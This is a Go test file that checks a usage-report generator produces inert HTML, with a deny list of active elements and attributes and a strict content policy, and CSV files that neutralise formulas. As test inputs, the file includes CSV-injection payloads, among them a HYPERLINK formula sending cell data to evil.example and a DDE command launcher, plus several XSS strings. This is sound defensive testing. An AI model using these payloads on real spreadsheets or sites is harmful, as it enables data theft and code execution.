package reports_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"io"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"rohrpost/internal/fault"
	"rohrpost/internal/reports"
	"rohrpost/tasks"
)

func code(err error) string { return string(fault.CodeOf(err)) }

// page is what a browser would find in a document.
type page struct {
	tables map[string][][]string // by their captions; the head is the first row
	text   string
	charts int
}

// parseHTML reads a document strictly, as XML, which it is as well, and checks of all of it that it needs nothing and
// runs nothing.
func parseHTML(t testing.TB, raw []byte) page {
	t.Helper()
	require.True(t, bytes.HasPrefix(raw, []byte("<!DOCTYPE html>\n")))
	p := page{tables: map[string][][]string{}}
	ids, labels := map[string]bool{}, []string{}
	var path []string
	var caption, style, policy string
	var text strings.Builder
	inside := func(name string) bool {
		for _, open := range path {
			if open == name {
				return true
			}
		}
		return false
	}
	in := xml.NewDecoder(bytes.NewReader(raw))
	for {
		token, err := in.Token()
		if errors.Is(err, io.EOF) {
			break
		}
		require.NoError(t, err)
		switch token := token.(type) {
		case xml.StartElement:
			name := token.Name.Local
			path = append(path, name)
			require.NotContains(t, []string{"script", "link", "img", "iframe", "object", "embed", "base", "form", "a", "use",
				"image", "foreignObject", "animate", "set"}, name)
			attributes := map[string]string{}
			for _, a := range token.Attr {
				attributes[a.Name.Local] = a.Value
				require.NotContains(t, []string{"style", "src", "href", "srcset", "action"}, a.Name.Local)
				require.False(t, strings.HasPrefix(a.Name.Local, "on"), a.Name.Local)
				require.NotContains(t, a.Value, "//", "%s of %s", a.Name.Local, name)
			}
			if id := attributes["id"]; id != "" {
				require.False(t, ids[id], "id %s twice", id)
				ids[id] = true
			}
			if attributes["http-equiv"] == "Content-Security-Policy" {
				policy = attributes["content"]
			}
			switch name {
			case "svg":
				if attributes["aria-hidden"] != "true" {
					p.charts++
					require.Equal(t, "img", attributes["role"])
					labels = append(labels, strings.Fields(attributes["aria-labelledby"])...)
				}
			case "tr":
				p.tables[caption] = append(p.tables[caption], nil)
			}
			text.Reset()
		case xml.EndElement:
			switch token.Name.Local {
			case "caption":
				caption = text.String()
				require.NotContains(t, p.tables, caption)
			case "style":
				style = text.String()
			case "th", "td":
				rows := p.tables[caption]
				rows[len(rows)-1] = append(rows[len(rows)-1], text.String())
			}
			path = path[:len(path)-1]
		case xml.CharData:
			text.Write(token)
			if !inside("style") {
				p.text += string(token)
			}
		}
	}
	require.Empty(t, path)
	for _, label := range labels {
		require.True(t, ids[label], "no %s", label)
	}
	require.Len(t, labels, 2*p.charts, "each chart has a title and a description")
	require.NotContains(t, style, "url(")
	require.NotContains(t, style, "@import")
	sum := sha256.Sum256([]byte(style))
	require.Equal(t, "default-src 'none'; style-src 'sha256-"+base64.StdEncoding.EncodeToString(sum[:])+"'", policy)
	return p
}

// What users and models are called is theirs to choose.
func TestNamesAreNeitherFormulasNorMarkup(t *testing.T) {
	t.Parallel()
	h := open(t, reports.Config{}, "")
	names := []string{
		`=HYPERLINK("http://evil.example/?"&A1;"x")`, `+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1+1)`, "\t=1", `'quoted`,
		`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `]]></style><svg onload=alert(1)>`, `a,"b"`,
	}
	for _, name := range names {
		h.query(h.ada, name, "stop", 1, 1, 1, 1, at("2024-03-05 12:00"))
	}
	h.exec(`UPDATE users SET email = '=cmd@example.org', name = '<b>Ada</b>' WHERE id = $1`, h.ada)
	wanted := week
	wanted.Scope = reports.Everyone
	report := h.until(h.asked(h.rooted, wanted), reports.Ready)

	raw := h.read(report, tasks.ReportCSV)
	rows, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	require.NoError(t, err)
	for _, row := range rows {
		for _, cell := range row {
			require.False(t, cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r"), "%q", cell)
		}
	}
	sheet := parseCSV(t, raw)
	for _, name := range names {
		require.Equal(t, "1", sheet[cell{"ai", "queries", name, "queries"}], "%q", name)
	}
	require.Equal(t, "10", sheet[cell{"users", "queries", "=cmd@example.org", "queries"}])

	shown := parseHTML(t, h.read(report, tasks.ReportHTML)).tables["AI tokens by model"]
	for _, name := range names {
		require.Contains(t, shown, []string{name, "1", "1", "0", "0", "1", "1"})
	}
	own := h.until(h.asked(h.ada, week), reports.Ready)
	require.Contains(t, parseHTML(t, h.read(own, tasks.ReportHTML)).text, "<b>Ada</b>, =cmd@example.org")
}

func TestEachChartOfAFullReportIsThere(t *testing.T) {
	t.Parallel()
	h := open(t, reports.Config{}, "")
	h.seed()
	wanted := week
	wanted.Scope = reports.Everyone
	report := h.until(h.asked(h.rooted, wanted), reports.Ready)
	require.Equal(t, 10, parseHTML(t, h.read(report, tasks.ReportHTML)).charts)
	types := map[string]string{}
	for _, f := range report.Files {
		file, err := h.files.Get(t.Context(), h.rooted, f.ID)
		require.NoError(t, err)
		types[f.Name] = file.MediaType
	}
	name := "usage-of-everyone-2024-03-04-to-2024-03-10."
	require.Equal(t, "text/html; charset=utf-8", types[name+"html"])
	require.Equal(t, "text/csv", types[name+"csv"])
	require.Contains(t, types, name+"json")
}

func TestWhatCannotBeDrawnIsStillTold(t *testing.T) {
	t.Parallel()
	h := open(t, reports.Config{}, "")
	h.query(h.ada, "gone", "failed", 0, 0, 0, 0, at("2024-03-05 12:00"))
	page := parseHTML(t, h.read(h.until(h.asked(h.ada, week), reports.Ready), tasks.ReportHTML))
	require.Zero(t, page.charts)
	require.Contains(t, page.tables["AI tokens over time"], []string{"2024-03-05", "1", "0", "0"})
	require.Contains(t, page.tables["AI tokens by model"], []string{"gone", "1", "0", "0", "1", "0", "0"})
	require.Len(t, page.tables, 2)
}
